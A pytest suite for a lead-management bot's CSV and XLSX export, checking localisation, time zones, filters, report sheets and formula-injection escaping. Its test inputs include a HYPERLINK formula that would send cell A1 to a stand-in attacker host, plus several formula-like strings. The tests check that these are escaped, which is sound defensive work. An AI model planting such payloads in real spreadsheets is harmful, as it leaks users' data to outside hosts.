"""The export files (bot/reports/export.py) as a supervisor opens them after pressing Export
under /report: the period's leads as CSV and XLSX, the report as XLSX. Over a seeded history
on SQLite and PostgreSQL, every file read back (csv module; openpyxl) and every cell checked
by hand. The team works in Moscow (UTC+3); 05.01.2026 is a Monday.

The history (local times):
  Sun 04.01 23:59:59  web_form  before the period
  Mon 05.01 00:00     web_form  #deal: a name with ; quotes, a line break, HTML and an emoji;
                                   UTM yandex/cpc/winter; Anna takes at 09:10, converts for
                                   54 700.50 at 10:00 (the client reached then)
  Mon 05.01 10:00     tilda     #formula: named =HYPERLINK(...); Boris takes at 10:02, Sveta
                                   gives it to Anna at 11:00: in work, Anna's
  Mon 05.01 11:00     web_form  #long: a 10 kB name; Anna takes at 11:00:01, junks it at 11:05:
                                   no_service "Подогрев бассейна"
  Tue 06.01 09:00     telegram  #refused: deep-link tag "promo"; Boris takes at 09:00:30,
                                   qualifies at 09:30 (reached), refuses at 10:00: price
  Tue 06.01 23:59:59  tilda     #open: named "-1+2", an e-mail only; nobody takes it
  Wed 07.01 00:00     web_form  after the period"""

from __future__ import annotations

import codecs
import csv
import io
from datetime import UTC, date, datetime, timedelta
from decimal import Decimal

import openpyxl
import pytest

from bot.common.clock import ManualClock
from bot.common.lifecycle import STALE_REASON, Action
from bot.common.render import LOCALES, labels
from bot.config import AppConfig
from bot.intake.input import LeadInput
from bot.intake.store import intake_leads
from bot.leads.actions import close_lead, take_lead
from bot.leads.qualify import convert_lead, qualify_lead
from bot.leads.reassign import reassign_lead
from bot.reports import export
from bot.reports.export import (
    COLUMNS,
    LeadExportRow,
    export_file_name,
    leads_csv,
    leads_xlsx,
    period_leads,
    report_xlsx,
    safe_text,
    sheet_name,
)
from bot.reports.summary import (
    Arrivals,
    Funnel,
    MissedCalls,
    Repeat,
    ReportSummary,
    report_summary,
)
from storage.db import SessionFactory
from storage.models import Lead, LeadStatus, Staff

WEEK = (date(2026, 1, 5), date(2026, 1, 6))
ANNA, BORIS = 1001, 1002
HOSTILE = 'Иван; "Ваня"\nПетров <b>&amp;</b> 🎉'
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
LONG = "Ж" * 10_240  # a 10 kB-and-more name (20 kB in UTF-8)
HEADERS_RU = [
    "ID",
    "Создан",
    "Источник",
    "utm_source",
    "utm_medium",
    "utm_campaign",
    "utm_term",
    "utm_content",
    "Метка ссылки в Telegram",
    "Имя",
    "Телефон",
    "E-mail",
    "Услуга",
    "Статус",
    "Ответственный",
    "Причина",
    "Причина словами",
    "Сумма",
    "Взят",
    "Первый контакт",
    "Закрыт",
    "Секунд до взятия",
]


def at(day: int, hour: int, minute: int = 0, second: int = 0) -> datetime:
    """A UTC moment in January 2026 (Moscow is three hours ahead)."""
    return datetime(2026, 1, day, hour, minute, second, tzinfo=UTC)


async def _lead(sessions: SessionFactory, moment: datetime, **fields: object) -> int:
    item = LeadInput(**{"source": "web_form", **fields})  # type: ignore[arg-type]
    async with sessions() as session:
        [result] = await intake_leads(session, [item], moment)
    return result.lead_id


@pytest.fixture
async def history(
    sessions: SessionFactory, clock: ManualClock, config: AppConfig, staff: dict[str, Staff]
) -> dict[str, int]:
    """The seeded history of the module docstring; the leads' ids by name."""
    anna, boris, sveta = staff["anna"], staff["boris"], staff["sveta"]
    ids = {"before": await _lead(sessions, at(4, 20, 59, 59), phone="+79000000009")}
    ids["deal"] = await _lead(
        sessions,
        at(4, 21),
        name=HOSTILE,
        phone="+79000000001",
        email="ivan@example.com",
        service="тур",
        utm={"utm_source": "yandex", "utm_medium": "cpc", "utm_campaign": "winter"},
    )
    async with sessions() as session:
        assert (await take_lead(session, ids["deal"], anna, at(5, 6, 10))).ok
        answers = {"amount": Decimal("54700.50")}
        assert (await convert_lead(session, ids["deal"], anna, answers, at(5, 7), config)).ok
    ids["formula"] = await _lead(
        sessions, at(5, 7), source="tilda", name=FORMULA, phone="+79000000002"
    )
    async with sessions() as session:
        assert (await take_lead(session, ids["formula"], boris, at(5, 7, 2))).ok
        lead = await session.get(Lead, ids["formula"])
        assert lead is not None
        version = lead.version
        await session.commit()
        given = await reassign_lead(session, ids["formula"], sveta, anna.id, version, at(5, 8))
        assert given.ok
    ids["long"] = await _lead(sessions, at(5, 8), name=LONG, phone="+79000000003")
    async with sessions() as session:
        assert (await take_lead(session, ids["long"], anna, at(5, 8, 0, 1))).ok
        words = "Подогрев бассейна"
        junked = await close_lead(
            session, ids["long"], anna, Action.JUNK, "no_service", words, at(5, 8, 5), config
        )
        assert junked.ok
    ids["refused"] = await _lead(
        sessions, at(6, 6), source="telegram", name="Ольга 👩‍💼", phone="+79000000004"
    )
    async with sessions() as session:  # the deep-link tag, as the bot's /start stores it
        lead = await session.get(Lead, ids["refused"])
        assert lead is not None
        lead.utm = {"start": "promo"}
        await session.commit()
        assert (await take_lead(session, ids["refused"], boris, at(6, 6, 0, 30))).ok
        answers = {"service": "экскурсия"}
        assert (await qualify_lead(session, ids["refused"], boris, answers, at(6, 6, 30))).ok
        refused = await close_lead(
            session, ids["refused"], boris, Action.REFUSE, "price", None, at(6, 7), config
        )
        assert refused.ok
    ids["open"] = await _lead(
        sessions, at(6, 20, 59, 59), source="tilda", name="-1+2", email="olga@example.com"
    )
    ids["after"] = await _lead(sessions, at(6, 21), phone="+79000000008")
    return ids


def _csv_rows(data: bytes) -> list[list[str]]:
    """The file as Excel reads it: a UTF-8 BOM first, then `;`-separated CRLF lines."""
    assert data.startswith(codecs.BOM_UTF8)
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))


def _expected_csv(ids: dict[str, int]) -> list[list[str]]:
    """Every row and column of the week's CSV in Russian, by hand."""
    return [
        HEADERS_RU,
        # the deal: the name exactly as typed (quoted by the CSV, not changed); 9 h 10 min
        [
            str(ids["deal"]),
            "2026-01-05 00:00:00",
            "web_form",
            "yandex",
            "cpc",
            "winter",
            "",
            "",
            "",
            HOSTILE,
            "+79000000001",
            "ivan@example.com",
            "тур",
            "Сделка",
            "Anna",
            "",
            "",
            "54700,50",
            "2026-01-05 09:10:00",
            "2026-01-05 10:00:00",
            "2026-01-05 10:00:00",
            "33000",
        ],
        # the formula: an apostrophe makes it text; taken by Boris (2 min), Anna's now
        [
            str(ids["formula"]),
            "2026-01-05 10:00:00",
            "tilda",
            *[""] * 6,
            "'" + FORMULA,
            "+79000000002",
            "",
            "",
            "В работе",
            "Anna",
            "",
            "",
            "",
            "2026-01-05 10:02:00",
            "",
            "",
            "120",
        ],
        [
            str(ids["long"]),
            "2026-01-05 11:00:00",
            "web_form",
            *[""] * 6,
            LONG,
            "+79000000003",
            "",
            "",
            "Мусор",
            "Anna",
            "Услуги нет у нас",
            "Подогрев бассейна",
            "",
            "2026-01-05 11:00:01",
            "",
            "2026-01-05 11:05:00",
            "1",
        ],
        [
            str(ids["refused"]),
            "2026-01-06 09:00:00",
            "telegram",
            *[""] * 5,
            "promo",
            "Ольга 👩‍💼",
            "+79000000004",
            "",
            "экскурсия",
            "Отказ",
            "Boris",
            "Дорого",
            "",
            "",
            "2026-01-06 09:00:30",
            "2026-01-06 09:30:00",
            "2026-01-06 10:00:00",
            "30",
        ],
        # arrived at 23:59:59 on Tuesday: still Tuesday's; "-1+2" would be a formula
        [
            str(ids["open"]),
            "2026-01-06 23:59:59",
            "tilda",
            *[""] * 6,
            "'-1+2",
            "",
            "olga@example.com",
            "",
            "Новый",
            *[""] * 8,
        ],
    ]


async def _leads(
    sessions: SessionFactory,
    config: AppConfig,
    period: tuple[date, date] = WEEK,
    **filters: object,
) -> list[LeadExportRow]:
    async with sessions() as session:
        return await period_leads(session, period, config, **filters)  # type: ignore[arg-type]


async def test_the_weeks_leads_as_csv(
    sessions: SessionFactory, config: AppConfig, history: dict[str, int]
) -> None:
    """The supervisor opens leads_2026-01-05_2026-01-06.csv: a header and the five leads of
    Monday 00:00 to Tuesday 23:59:59 local, oldest first, every cell as the lead is now; the
    leads of 23:59:59 Sunday and 00:00 Wednesday are not there."""
    rows = await _leads(sessions, config)
    data = leads_csv(rows, config, "ru")

    assert _csv_rows(data) == _expected_csv(history)
    assert export_file_name("leads", WEEK, "csv") == "leads_2026-01-05_2026-01-06.csv"
    # Excel's own line ends; the name's line break stays inside its quoted cell
    assert data.count(b"\r\n") == 6
    assert '"Иван; ""Ваня""\nПетров'.encode() in data  # quoted, its quotes doubled


async def test_the_weeks_leads_as_xlsx(
    sessions: SessionFactory, config: AppConfig, history: dict[str, int]
) -> None:
    """The same leads in the workbook: one sheet, the bold frozen header, then typed cells:
    ids and seconds as numbers, local times as date-times, the amount a number shown with
    two decimals, every text (the formula too, without an apostrophe) as text."""
    rows = await _leads(sessions, config)
    book = openpyxl.load_workbook(io.BytesIO(leads_xlsx(rows, config, "ru")))

    assert book.sheetnames == ["Лиды"]
    sheet = book["Лиды"]
    assert sheet.freeze_panes == "A2"
    assert all(cell.font.b for cell in sheet[1])
    values = [list(row) for row in sheet.iter_rows(values_only=True)]
    assert values[0] == HEADERS_RU
    expected = [
        [_typed(column, text) for column, text in zip(COLUMNS, row, strict=True)]
        for row in _expected_csv(history)[1:]
    ]
    expected[0][COLUMNS.index("amount")] = 54700.5
    expected[1][COLUMNS.index("name")] = FORMULA  # text, as typed
    expected[4][COLUMNS.index("name")] = "-1+2"
    assert values[1:] == expected
    deal = sheet[2]
    assert deal[COLUMNS.index("amount")].number_format == "#,##0.00"
    assert deal[COLUMNS.index("created")].number_format == "dd.mm.yyyy hh:mm:ss"
    assert sheet.cell(3, COLUMNS.index("name") + 1).data_type == "s"  # not "f": no formula


def _typed(column: str, text: str) -> object:
    """A CSV cell as the workbook types it."""
    if text == "":
        return None
    if column in ("id", "take_seconds"):
        return int(text)
    if column in ("created", "taken", "contacted", "closed"):
        return datetime.strptime(text, "%Y-%m-%d %H:%M:%S")
    return text


async def test_english_headers_words_and_decimal_point(
    sessions: SessionFactory, config: AppConfig, history: dict[str, int]
) -> None:
    """In English the headers, statuses and reasons are English and the amount has a point."""
    rows = await _leads(sessions, config)
    csv_rows = _csv_rows(leads_csv(rows, config, "en"))

    assert csv_rows[0][:3] == ["ID", "Created", "Source"]
    assert csv_rows[0][-5:] == ["Amount", "Taken", "First contact", "Closed", "Seconds to take"]
    status, reason, amount = (COLUMNS.index(key) for key in ("status", "reason", "amount"))
    assert [row[status] for row in csv_rows[1:]] == ["Deal", "In work", "Junk", "Refused", "New"]
    assert [row[reason] for row in csv_rows[1:]] == [
        "",
        "",
        "Service we do not offer",
        "Price",
        "",
    ]
    assert csv_rows[1][amount] == "54700.50"
    book = openpyxl.load_workbook(io.BytesIO(leads_xlsx(rows, config, "en")))
    assert book.sheetnames == ["Leads"]
    assert book["Leads"]["B2"].number_format == "yyyy-mm-dd hh:mm:ss"


async def test_filters_by_source_and_by_manager(
    sessions: SessionFactory, config: AppConfig, history: dict[str, int]
) -> None:
    """The report's filters: source=tilda keeps #formula and #open; Boris gets the leads he
    took first (#formula, Anna's now) or owns (#refused); Anna those she owns (#deal,
    #formula, #long); an unknown Telegram id, or a source nobody used, nothing."""

    async def ids(**filters: object) -> list[int]:
        return [row.id for row in await _leads(sessions, config, **filters)]

    h = history
    assert await ids(source="tilda") == [h["formula"], h["open"]]
    assert await ids(manager_telegram_id=BORIS) == [h["formula"], h["refused"]]
    assert await ids(manager_telegram_id=ANNA) == [h["deal"], h["formula"], h["long"]]
    assert await ids(source="tilda", manager_telegram_id=ANNA) == [h["formula"]]
    assert await ids(manager_telegram_id=999) == []
    assert await ids(source="vk") == []


async def test_local_days_and_an_empty_period(
    sessions: SessionFactory, config: AppConfig, history: dict[str, int]
) -> None:
    """Tuesday alone holds #refused and #open (23:59:59 local); Wednesday the lead of 00:00;
    Sunday the one of 23:59:59. A December week holds nothing: each file is its header only."""
    tuesday = await _leads(sessions, config, (date(2026, 1, 6), date(2026, 1, 6)))
    assert [row.id for row in tuesday] == [history["refused"], history["open"]]
    wednesday = await _leads(sessions, config, (date(2026, 1, 7), date(2026, 1, 7)))
    assert [row.id for row in wednesday] == [history["after"]]
    sunday = await _leads(sessions, config, (date(2026, 1, 4), date(2026, 1, 4)))
    assert [row.id for row in sunday] == [history["before"]]

    empty = await _leads(sessions, config, (date(2025, 12, 1), date(2025, 12, 7)))
    assert empty == []
    assert _csv_rows(leads_csv(empty, config, "ru")) == [HEADERS_RU]
    book = openpyxl.load_workbook(io.BytesIO(leads_xlsx(empty, config, "ru")))
    assert [list(row) for row in book.active.iter_rows(values_only=True)] == [HEADERS_RU]


async def test_the_report_as_a_workbook(
    sessions: SessionFactory, config: AppConfig, history: dict[str, int]
) -> None:
    """report_2026-01-05_2026-01-06.xlsx: a sheet per section, holding the summary's numbers:
    5 received, 4 taken, 2 reached (#deal, #refused), 2 qualified, 1 deal of 54 700.50 after
    10 h; Anna took #deal in 9 h 10 min and #long in 1 s (median 4 h 35 min 0.5 s), Boris
    #formula in 2 min and #refused in 30 s (median 75 s)."""
    async with sessions() as session:
        summary = await report_summary(session, WEEK, config)
    book = openpyxl.load_workbook(io.BytesIO(report_xlsx(summary, config, "ru")))

    assert book.sheetnames == [
        "Воронка",
        "Источники",
        "Менеджеры",
        "Новые и повторные",
        "Причины мусора",
        "Причины отказов",
        "Неудовлетворённый спрос",
        "Пропущенные звонки",
        "Сообщения клиентов",
        "По часам",
        "По дням недели",
        "Вне рабочего времени",
    ]
    assert _sheet(book, "Воронка") == [
        ("Показатель", "Значение", "Доля от полученных"),
        ("Первый день", datetime(2026, 1, 5), None),
        ("Последний день", datetime(2026, 1, 6), None),
        ("Часовой пояс", "Europe/Moscow", None),
        ("Получено", 5, 1),
        ("Взято", 4, 0.8),
        ("Дозвонились", 2, 0.4),
        ("Квалифицировано", 2, 0.4),
        ("Сделок", 1, 0.2),
        ("Мусор", 1, 0.2),
        ("Отказов", 1, 0.2),
        ("Ещё открыты", 2, 0.4),
        ("Сумма сделок", 54700.5, None),
        ("Время от поступления до сделки, медиана", timedelta(hours=10), None),
    ]
    assert book["Воронка"]["C6"].number_format == "0%"
    assert book["Воронка"]["B13"].number_format == "#,##0.00"
    sources = _sheet(book, "Источники")
    assert sources[0][:3] == ("Источник", "Получено", "Взято")
    assert sources[1:] == [
        ("tilda", 2, 1, 0, 0, 0, 0, None, None, None),
        ("web_form", 2, 2, 1, 0, 1, 54700.5, None, None, None),
        ("telegram", 1, 1, 0, 1, 0, 0, None, None, None),
    ]
    managers = _sheet(book, "Менеджеры")
    assert managers[1:] == [
        (
            "Anna",
            ANNA,
            2,
            1,
            0,
            1,
            54700.5,
            timedelta(seconds=16500.5),
            timedelta(seconds=29700.1),
            timedelta(seconds=300.5),  # 10 min into the working day, and 1 s
            timedelta(hours=10),
        ),
        (
            "Boris",
            BORIS,
            2,
            0,
            1,
            0,
            0,
            timedelta(seconds=75),
            timedelta(seconds=111),
            timedelta(seconds=75),
            timedelta(minutes=30),
        ),
    ]
    assert _sheet(book, "Новые и повторные")[1:] == [("новые", 5), ("повторные", 0)]
    assert _sheet(book, "Причины мусора")[1:] == [("Услуги нет у нас", "no_service", 1)]
    assert _sheet(book, "Причины отказов")[1:] == [("Дорого", "price", 1)]
    assert _sheet(book, "Неудовлетворённый спрос")[1:] == [("подогрев бассейна", 1)]
    assert _sheet(book, "Пропущенные звонки")[1:] == [
        ("Пропущенных звонков", 0),
        ("Перезвонили", 0),
        ("Перезвонили в срок", 0),
        ("Не перезвонили", 0),
        ("Время до обратного звонка, медиана", None),
    ]
    assert _sheet(book, "Сообщения клиентов")[1:] == [
        ("Сообщений клиентов, ждавших ответа", 0),
        ("Ответили", 0),
        ("Ответили в срок", 0),
        ("Без ответа", 0),
        ("Время до первого ответа, медиана", None),
    ]
    # out of Mon-Fri 09:00-19:00: #deal (Monday 00:00, taken after 9 h 10 min) and #open
    assert _sheet(book, "Вне рабочего времени")[1:] == [
        ("Лидов пришло в нерабочее время", 2),
        ("Из них взято", 1),
        ("Их время до взятия, медиана", timedelta(hours=9, minutes=10)),
        ("Их время до взятия, 90-й перцентиль", timedelta(hours=9, minutes=10)),
    ]
    hours = _sheet(book, "По часам")
    assert hours[0] == ("Час", "Лидов") and [row[0] for row in hours[1:]] == list(range(24))
    assert {hour: n for hour, n in hours[1:] if n} == {0: 1, 9: 1, 10: 1, 11: 1, 23: 1}
    assert _sheet(book, "По дням недели")[1:] == [
        ("понедельник", 3),
        ("вторник", 2),
        ("среда", 0),
        ("четверг", 0),
        ("пятница", 0),
        ("суббота", 0),
        ("воскресенье", 0),
    ]


def _sheet(book: openpyxl.Workbook, name: str) -> list[tuple[object, ...]]:
    def plain(value: object) -> object:
        # openpyxl reads an h:mm:ss cell as a timedelta with float noise: whole milliseconds
        if isinstance(value, timedelta):
            return timedelta(milliseconds=round(value / timedelta(milliseconds=1)))
        return value

    return [tuple(plain(v) for v in row) for row in book[name].iter_rows(values_only=True)]


# --- pure: no database ------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("typed", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=cmd", "'\t=cmd"),
        ("\r=cmd", "'\r=cmd"),
        ("+7 900 123-45-67", "'+7 900 123-45-67"),  # not the stored form: a formula to Excel
        ("+79001234567", "+79001234567"),  # a stored phone: left readable
        ("+4930123456", "+4930123456"),
        ("Иван = Ваня", "Иван = Ваня"),
        ("", ""),
    ],
)
def test_formula_looking_text_gets_an_apostrophe(typed: str, written: str) -> None:
    """What the spreadsheet shows as text rather than runs: the apostrophe goes before a
    formula's first character; a plain E.164 phone stays as stored."""
    assert safe_text(typed) == written


def test_a_phone_in_a_name_stays_readable_and_a_formula_phone_does_not(config: AppConfig) -> None:
    """The phone column holds E.164 numbers as stored; a phone field that is not one (never
    stored so by intake, but written by hand into the database) is guarded as any text."""
    rows = [
        LeadExportRow(1, at(5, 7), "api", LeadStatus.NEW, name="+79001234567", phone="+7900"),
        LeadExportRow(2, at(5, 7), "api", LeadStatus.NEW, phone="=2+5"),
    ]
    written = _csv_rows(leads_csv(rows, config, "en"))
    name, phone = COLUMNS.index("name"), COLUMNS.index("phone")
    assert (written[1][name], written[1][phone]) == ("+79001234567", "'+7900")
    assert written[2][phone] == "'=2+5"


def test_reason_words_for_the_systems_and_for_a_removed_reason(config: AppConfig) -> None:
    """A lead the daily run closed as stale reads as the card says it; a reason since removed
    from the config as its code; a refusal's reason from the refusal list."""
    rows = [
        LeadExportRow(1, at(5, 7), "api", LeadStatus.JUNK, close_reason=STALE_REASON),
        LeadExportRow(2, at(5, 7), "api", LeadStatus.JUNK, close_reason="old_code"),
        LeadExportRow(3, at(5, 7), "api", LeadStatus.REFUSED, close_reason="timing"),
    ]
    reason = COLUMNS.index("reason")
    written = [row[reason] for row in _csv_rows(leads_csv(rows, config, "en"))[1:]]
    assert written == ["stale (no activity for 7 days)", "old_code", "Timing"]
    written = [row[reason] for row in _csv_rows(leads_csv(rows, config, "ru"))[1:]]
    assert written == ["устарел (без движения 7 дн.)", "old_code", "Не сейчас"]


def test_times_are_local_across_a_summer_time_change(config: AppConfig) -> None:
    """In a zone with summer time (Berlin) the same UTC hour is 01:00 in winter and 02:00 in
    summer; the file shows each as the clock on the wall showed it."""
    berlin = config.model_copy(update={"timezone": "Europe/Berlin"})
    winter = datetime(2026, 1, 5, 0, tzinfo=UTC)
    summer = datetime(2026, 7, 6, 0, tzinfo=UTC)
    rows = [
        LeadExportRow(1, winter, "api", LeadStatus.NEW),
        LeadExportRow(2, summer, "api", LeadStatus.NEW, taken_at=summer + timedelta(seconds=90)),
    ]
    created, taken, waited = (COLUMNS.index(k) for k in ("created", "taken", "take_seconds"))
    written = _csv_rows(leads_csv(rows, berlin, "en"))[1:]
    assert [row[created] for row in written] == ["2026-01-05 01:00:00", "2026-07-06 02:00:00"]
    assert (written[1][taken], written[1][waited]) == ("2026-07-06 02:01:30", "90")


@pytest.mark.parametrize("locale", LOCALES)
def test_every_sheet_name_is_one_excel_takes(locale: str) -> None:
    """At most 31 characters, none of []:*?/\\ (Excel refuses the file otherwise)."""
    words = labels(locale)["export"]
    for name in [*words["sheets"].values(), words["leads_sheet"]]:
        assert name == sheet_name(name) and len(name) <= 31
    assert sheet_name("Q1/Q2: [draft]*? and a very long tail") == "Q1 Q2   draft    and a very lon"
    assert sheet_name("[]") == "Sheet"


def test_file_names() -> None:
    """What the chat shows under the document: the kind, the local days, the type."""
    november = (date(2026, 11, 1), date(2026, 11, 30))
    assert export_file_name("leads", november, "csv") == "leads_2026-11-01_2026-11-30.csv"
    assert export_file_name("report", november, "xlsx") == "report_2026-11-01_2026-11-30.xlsx"


@pytest.mark.parametrize("locale", LOCALES)
def test_every_word_of_the_files_is_there_in_each_language(config: AppConfig, locale: str) -> None:
    """An empty period's report and a lead of every status, written in each language: no
    word missing (a missing one would fail the Export button), every sheet present."""
    empty = ReportSummary(
        first=date(2026, 1, 5),
        last=date(2026, 1, 5),
        timezone=config.timezone,
        funnel=Funnel(),
        by_source=[],
        by_manager=[],
        repeat=Repeat(),
        junk_reasons={},
        refusal_reasons={},
        unmet_demand={},
        missed_calls=MissedCalls(),
        arrivals=Arrivals(),
    )
    book = openpyxl.load_workbook(io.BytesIO(report_xlsx(empty, config, locale)))
    assert book.sheetnames == list(labels(locale)["export"]["sheets"].values())
    assert book.worksheets[0]["B5"].value == 0  # received
    assert book.worksheets[0]["C5"].value is None  # no share of nothing
    rows = [LeadExportRow(n, at(5, 7), "api", status) for n, status in enumerate(LeadStatus)]
    status = COLUMNS.index("status")
    written = [row[status] for row in _csv_rows(leads_csv(rows, config, locale))[1:]]
    assert written == [labels(locale)["export"]["statuses"][s.value] for s in LeadStatus]
    assert all(word[0].isalpha() for word in written)  # a word, not the card's emoji


def test_more_leads_than_a_sheet_holds_is_refused(
    config: AppConfig, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Excel's sheet ends at row 1,048,576; the writer would drop the rest silently, so the
    export says so instead (the CSV has no such limit). Shown here with a limit of 2."""
    monkeypatch.setattr(export, "XLSX_LAST_ROW", 2)
    rows = [LeadExportRow(n, at(5, 7), "api", LeadStatus.NEW) for n in range(3)]
    assert (
        openpyxl.load_workbook(io.BytesIO(leads_xlsx(rows[:2], config, "en"))).active.max_row == 3
    )
    with pytest.raises(ValueError, match="use the CSV"):
        leads_xlsx(rows, config, "en")
